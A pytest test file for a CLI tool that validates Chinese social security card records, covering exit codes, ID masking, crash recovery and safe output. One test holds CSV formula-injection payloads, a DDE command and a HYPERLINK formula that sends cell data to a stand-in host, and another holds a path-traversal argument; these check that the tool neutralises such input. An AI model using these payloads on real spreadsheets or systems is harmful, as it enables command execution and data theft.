"""``sbcard check`` and ``sbcard corrections``: what a clerk gets, on any console, and the exit code."""

import csv
import os
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest
from typer.testing import CliRunner

from sbcard_core.cli.app import app
from sbcard_core.fields import citizen_id
from sbcard_core.files import MARKER, read_cell
from sbcard_core.validation.spec import COLLECTION
from sbcard_core.values import mask_id
from tests.files.killing import killed_at_every_step

HEADERS = [field.header for field in COLLECTION.fields]
KEYS = [field.field for field in COLLECTION.fields]


def number(serial: int) -> str:
    body = f"43010219491231{serial:03}"
    return body + citizen_id.check_digit(body)


def record(serial: int, **values: str) -> str:
    sex = "21"[serial % 2]
    cells = f"{serial},F{serial},{number(serial)},张三,{sex},01,19491231,13800138000,4,430102,103,20140701".split(",")
    return ",".join((dict(zip(KEYS, cells, strict=True)) | values).values())


def write(path: Path, *lines: str) -> Path:
    path.write_bytes("\r\n".join([",".join(HEADERS), *lines, ""]).encode("gb18030"))
    return path


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def run(*arguments: object) -> tuple[int, str]:
    result = CliRunner().invoke(app, [str(argument) for argument in arguments])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.output


SWAPPED = number(21)[:12] + number(21)[13] + number(21)[12] + number(21)[14:]


@pytest.fixture
def dirty(tmp_path: Path) -> Path:
    return write(
        tmp_path / "430100.csv",
        record(1),
        record(21, id_number=SWAPPED),
        record(2),
        record(2, seq="9", county="430103"),
        record(3, county="999999"),
        "a,b",
        record(24, name="买买提．阿不都"),
    )


def test_a_clean_file_ends_with_0(tmp_path: Path) -> None:
    code, said = run("check", write(tmp_path / "a.csv", record(1)), "--on", "2014-07-31", "--out", tmp_path / "out")
    assert code == 0
    assert "记录 1 = 接受 1 + 退回 0 + 隔离 0" in said
    assert [row["社会保障号码"] for row in rows(tmp_path / "out/accepted/a.csv")] == [number(1)]
    assert rows(tmp_path / "out/findings.csv") == []


@pytest.mark.parametrize("name", ["长" * 83 + ".tsv", "nul.csv"])
def test_a_name_that_no_result_can_have_is_refused_before_anything_is_read(tmp_path: Path, name: str) -> None:
    files = [write(tmp_path / "a.csv", record(1)), write(tmp_path / name, record(2))]
    code, said = run("check", *files, "--on", "2014-07-31", "--out", tmp_path / "out")
    assert (code, "255" in said) == (2, True)
    assert not (tmp_path / "out").exists()


def test_accepted_records_lie_under_their_files_names(tmp_path: Path) -> None:
    files = [write(tmp_path / name, record(at)) for at, name in enumerate(("a", "a.csv", "B.CSV", "c.txt"), 1)]
    code, _ = run("check", *files, "--on", "2014-07-31", "--out", tmp_path / "out")
    assert code == 0
    found = {path.name: rows(path)[0]["社会保障号码"] for path in (tmp_path / "out/accepted").iterdir()}
    assert found == {"a.csv": number(1), "a.csv.csv": number(2), "B.CSV": number(3), "c.txt.csv": number(4)}


def test_everything_is_written_and_nothing_masked_leaks(tmp_path: Path, dirty: Path) -> None:
    out = tmp_path / "out"
    code, said = run("check", dirty, "--on", "2014-07-31", "--out", out, "--submitter", "430100")
    assert code == 1
    assert "记录 7 = 接受 3 + 退回 3 + 隔离 1" in said
    assert "id_number.check" in said
    assert "社会保障号码校验码不符" in said
    findings = rows(out / "findings.csv")
    (swapped,) = (row for row in findings if row["代码"] == "id_number.check")
    assert "第13、14位可能颠倒" in swapped["依据"]
    for text in (said, (out / "findings.csv").read_text("utf-8-sig"), (out / "conflicts.csv").read_text("utf-8-sig")):
        assert not any(number(serial) in text for serial in (1, 2, 21))
        assert SWAPPED not in text
    assert (out / "quarantine/430100.csv.quarantine").read_bytes() == b"a,b\r\n"
    assert [row["类型"] for row in rows(out / "conflicts.csv")] == ["一人多地", "一人多地"]
    assert [row["建议撤回"] for row in rows(out / "conflicts.csv")] == ["", "是"]
    book = openpyxl.load_workbook(out / "kickback/430100.xlsx")
    table = book.worksheets[2]
    assert {table.cell(row, 5).value for row in range(2, table.max_row + 1)} == {SWAPPED, number(2), number(3), ""}
    assert number(21) in table.cell(2, 5).comment.text


def test_corrections_come_back(tmp_path: Path, dirty: Path) -> None:
    out = tmp_path / "out"
    run("check", dirty, "--on", "2014-07-31", "--out", out)
    path = out / "kickback/430100.csv.xlsx"
    book = openpyxl.load_workbook(path)
    book.worksheets[2].cell(2, 5).value = number(21)
    book.save(path)
    code, said = run("corrections", path, "--checked", out, "--out", tmp_path / "back")
    assert code == 0
    assert "共 4 条,更正 1,未改 3" in said
    code, said = run(
        *("check", tmp_path / "back/430100.csv.corrected.csv", "--on", "2014-07-31"), "--out", tmp_path / "again"
    )
    assert code == 0
    book.worksheets[2].delete_rows(3)
    book.save(path)
    code, said = run("corrections", path, "--checked", out, "--out", tmp_path / "back")
    assert code == 2  # the records taken before are kept
    assert "is there already" in said
    code, said = run("corrections", path, "--checked", out, "--out", tmp_path / "later")
    assert code == 1
    assert "该记录已从表中删除" in said


def test_a_cap_shortens_the_tables_and_never_the_workbook(tmp_path: Path) -> None:
    files = [
        write(tmp_path / f"{name}.csv", *(record(2 * at + first, county="999999") for at in range(20)))
        for first, name in enumerate(("430100", "430200"), 1)
    ]
    out = tmp_path / "out"
    code, said = run("check", *files, "--on", "2014-07-31", "--out", out, "--cap", "3")
    assert code == 1
    assert "40  county.code" in said
    told = [row["文件"] for row in rows(out / "findings.csv") if row["代码"] == "county.code"]
    assert told == ["430100.csv"] * 3 + ["430200.csv"] * 3
    for file in files:
        book = openpyxl.load_workbook(out / f"kickback/{file.name}.xlsx")
        assert book.worksheets[2].max_row == 21
    assert sorted(path.name for path in out.iterdir() if path.name.startswith(".")) == [MARKER]


def test_known_numbers_and_repairs(tmp_path: Path) -> None:
    file = write(tmp_path / "a.csv", record(1), record(5, name="买买提．阿不都"), record(7, id_number=f" {number(7)}"))
    (tmp_path / "known.txt").write_text(f"号码\n{number(1)}\n{number(9)}\n", "utf-8")
    known = ("--on", "2014-07-31", "--known", tmp_path / "known.txt")
    code, said = run("check", file, *known, "--out", tmp_path / "1")
    assert code == 1
    assert "接受 2 + 退回 1" in said
    assert "duplicate.known" in said
    code, said = run("check", file, *known, "--repairs", "ask", "--out", tmp_path / "2")
    assert "接受 0 + 退回 3" in said
    assert [row["建议(遮盖)"] for row in rows(tmp_path / "2/findings.csv")] == ["", "买******", mask_id(number(7))]


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (["--spec", "nothing"], "no layout"),
        (["--repairs", "all"], "repairs"),
        (["--out", "held"], "no folder of results"),
        (["--submitter", "../../x"], "no code of six digits"),
        (["--submitter", "４３０１００"], "no code of six digits"),
        (["--on", "2014-13-01"], "on"),
        (["--known", "absent.txt"], "known"),
    ],
)
def test_a_refused_call_ends_with_2(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, arguments: list[str], words: str
) -> None:
    monkeypatch.chdir(tmp_path)
    Path("held").mkdir()
    Path("held/summary.csv").write_text("")
    code, said = run("check", write(tmp_path / "a.csv", record(1)), *arguments)
    assert code == 2
    assert words in said


def tree(path: Path) -> dict[str, bytes]:
    return {str(one.relative_to(path)): one.read_bytes() for one in sorted(path.rglob("*")) if one.is_file()}


def test_results_are_not_written_over_nor_among_other_files(tmp_path: Path, dirty: Path) -> None:
    day = ("--on", "2014-07-31")
    run("check", dirty, *day, "--out", tmp_path / "q")
    before = tree(tmp_path)
    again = write(tmp_path / "again.csv", record(1))
    before["again.csv"] = again.read_bytes()
    for file, out in (
        (again, tmp_path / "q"),  # finished results
        (tmp_path / "q/findings.csv", tmp_path / "q"),  # over the very input
        (tmp_path / "q/accepted/430100.csv", tmp_path / "q/accepted"),
        (again, tmp_path),  # among other files
    ):
        code, said = run("check", file, *day, "--out", out)
        assert (code, "files" in said) == (2, True)
        assert tree(tmp_path) == before


def test_a_check_that_was_broken_off_is_begun_anew(tmp_path: Path, dirty: Path) -> None:
    whole = tmp_path / "whole"
    _, said = run("check", dirty, "--on", "2014-07-31", "--out", whole)
    assert "broken off" not in said
    half = tmp_path / "half"
    (half / ".unfinished/accepted").mkdir(parents=True)
    (half / MARKER).write_bytes((whole / MARKER).read_bytes())
    (half / ".unfinished/accepted/430100.csv").write_text("half")
    (half / "findings.csv").write_text("moved before it was killed")
    code, said = run("corrections", whole / "kickback/430100.csv.xlsx", "--checked", half, "--out", tmp_path / "x")
    assert code == 2
    code, said = run("check", dirty, "--on", "2014-07-31", "--out", half)
    assert code == 1
    assert "broken off" in said
    same = ("accepted/430100.csv", "findings.csv", "summary.csv", "conflicts.csv", "quarantine/430100.csv.quarantine")
    assert [(half / name).read_bytes() for name in same] == [(whole / name).read_bytes() for name in same]
    assert not (half / ".unfinished").exists()


def test_workbooks_of_one_name_are_not_read_at_all(tmp_path: Path, dirty: Path) -> None:
    out = tmp_path / "out"
    run("check", dirty, "--on", "2014-07-31", "--out", out)
    books = [tmp_path / folder / name for folder, name in (("a", "fix.xlsx"), ("b", "FIX.xlsx"))]
    for book in books:
        book.parent.mkdir()
        book.write_bytes((out / "kickback/430100.csv.xlsx").read_bytes())
    code, said = run("corrections", *books, "--checked", out, "--out", tmp_path / "back")
    assert code == 2
    assert "fix.corrected.csv" in said
    assert not (tmp_path / "back").exists()


RUNS = ["=cmd|' /C calc'!A0", "@SUM(1)", "+1+1", '=HYPERLINK("http://a.example?"&C2)', "\t=1+1"]


@pytest.mark.parametrize("formula", RUNS)
def test_no_table_that_is_written_holds_a_formula(tmp_path: Path, formula: str) -> None:
    cell = '"' + formula.replace('"', '""') + '"'
    file = write(tmp_path / "=a.csv", record(1, seq=cell), record(3, seq=cell, county="999999"), f"{cell},x")
    run("check", file, "--on", "2014-07-31", "--out", tmp_path / "out")
    tables = [path for path in (tmp_path / "out").rglob("*.csv") if path.is_file()]
    assert len(tables) == 4
    for table in tables:
        with table.open(encoding="utf-8-sig", newline="") as opened:
            cells = [one for row in csv.reader(opened) for one in row]
        assert [one for one in cells if one.lstrip(" ").startswith(("=", "+", "@", "\t"))] == []
    (accepted,) = rows(tmp_path / "out/accepted/=a.csv")
    assert read_cell(accepted["序号"]).strip() == formula.strip()


@pytest.mark.skipif(os.name != "posix", reason="modes of POSIX")
def test_what_a_check_makes_is_its_users_alone(tmp_path: Path, dirty: Path) -> None:
    before = os.umask(0)
    try:
        run("check", dirty, "--on", "2014-07-31", "--out", tmp_path / "out")
        book = tmp_path / "out/kickback/430100.csv.xlsx"
        run("corrections", book, "--checked", tmp_path / "out", "--out", tmp_path / "back")
    finally:
        os.umask(before)
    made = [tmp_path / "out", tmp_path / "back", *(tmp_path / "out").rglob("*"), *(tmp_path / "back").rglob("*")]
    assert len(made) > 10
    assert [path for path in made if path.stat().st_mode & 0o077] == []


def test_a_workbook_of_somebody_else_is_refused(tmp_path: Path, dirty: Path) -> None:
    out = tmp_path / "out"
    run("check", dirty, "--on", "2014-07-31", "--out", out)
    openpyxl.Workbook().save(tmp_path / "other.xlsx")
    assert run("corrections", tmp_path / "other.xlsx", "--checked", out, "--out", tmp_path / "back")[0] == 2
    assert run("corrections", out / "kickback/430100.csv.xlsx", "--checked", tmp_path)[0] == 2


@pytest.mark.parametrize("console", ["gbk:strict", "ascii:strict"])
def test_any_console(tmp_path: Path, dirty: Path, console: str) -> None:
    done = subprocess.run(
        [sys.executable, "-m", "sbcard_core.cli", "check", dirty, "--on", "2014-07-31", "--out", tmp_path / "out"],
        env={**os.environ, "PYTHONIOENCODING": console, "PYTHONUTF8": "0"},
        capture_output=True,
        check=False,
        cwd=Path(__file__).parents[2],
    )
    assert done.returncode == 1, done.stderr
    said = done.stdout.decode(console.removesuffix(":strict"))
    assert "id_number.check" in said
    assert ("社会保障号码校验码不符" in said) == console.startswith("gbk")
    assert b"Traceback" not in done.stderr


@pytest.mark.skipif(os.name != "posix", reason="forks")
def test_a_check_killed_anywhere_is_known_and_begun_anew(tmp_path: Path) -> None:
    """Until the summary is there, the folder is none of a finished check; with it, everything is."""
    lines = (record(1), record(3, county="999999"), "a,b")
    whole = tmp_path / "whole"
    order = ("--on", "2014-07-31", "--out")
    run("check", write(tmp_path / "a.csv", *lines), *order, whole)
    same = [name for name in tree(whole) if not name.endswith((".xlsx", ".parquet"))]
    anew = 0
    for folder, was_killed in killed_at_every_step(
        tmp_path,
        lambda: run("check", "a.csv", *order, "out"),
        lambda folder: write(folder / "a.csv", *lines),
        stride=13,
    ):
        out = folder / "out"
        if not (out / "summary.csv").exists():
            assert was_killed
            assert run("corrections", whole / "kickback/a.csv.xlsx", "--checked", out, "--out", folder / "x")[0] == 2
            anew += "broken off" in run("check", folder / "a.csv", *order, out)[1]
        assert [tree(out)[name] for name in same] == [tree(whole)[name] for name in same]
        shutil.rmtree(folder)
    assert anew > 5


@pytest.mark.skipif(os.name != "posix", reason="limits of POSIX")
@pytest.mark.parametrize("kilobytes", [1, 4, 20])
def test_a_disk_that_is_full_leaves_no_results_that_look_whole(tmp_path: Path, kilobytes: int) -> None:
    """sqlitebrowser#3243: a table cut off where the disk was full, and the word that all is done."""
    file = write(tmp_path / "a.csv", *(record(at, county="999999" if at % 2 else "430102") for at in range(1, 400)))
    limited = (
        f"import resource, signal, sys; signal.signal(signal.SIGXFSZ, signal.SIG_IGN);"
        f"resource.setrlimit(resource.RLIMIT_FSIZE, ({kilobytes << 10}, {kilobytes << 10}));"
        "from sbcard_core.cli import main; main()"
    )
    done = subprocess.run(
        [sys.executable, "-c", limited, "check", file, "--on", "2014-07-31", "--out", tmp_path / "out"],
        capture_output=True,
        check=False,
        cwd=Path(__file__).parents[2],
    )
    assert (done.returncode, b"Traceback" in done.stderr, b"File too large" in done.stderr) == (2, False, True), done
    assert not (tmp_path / "out").exists()
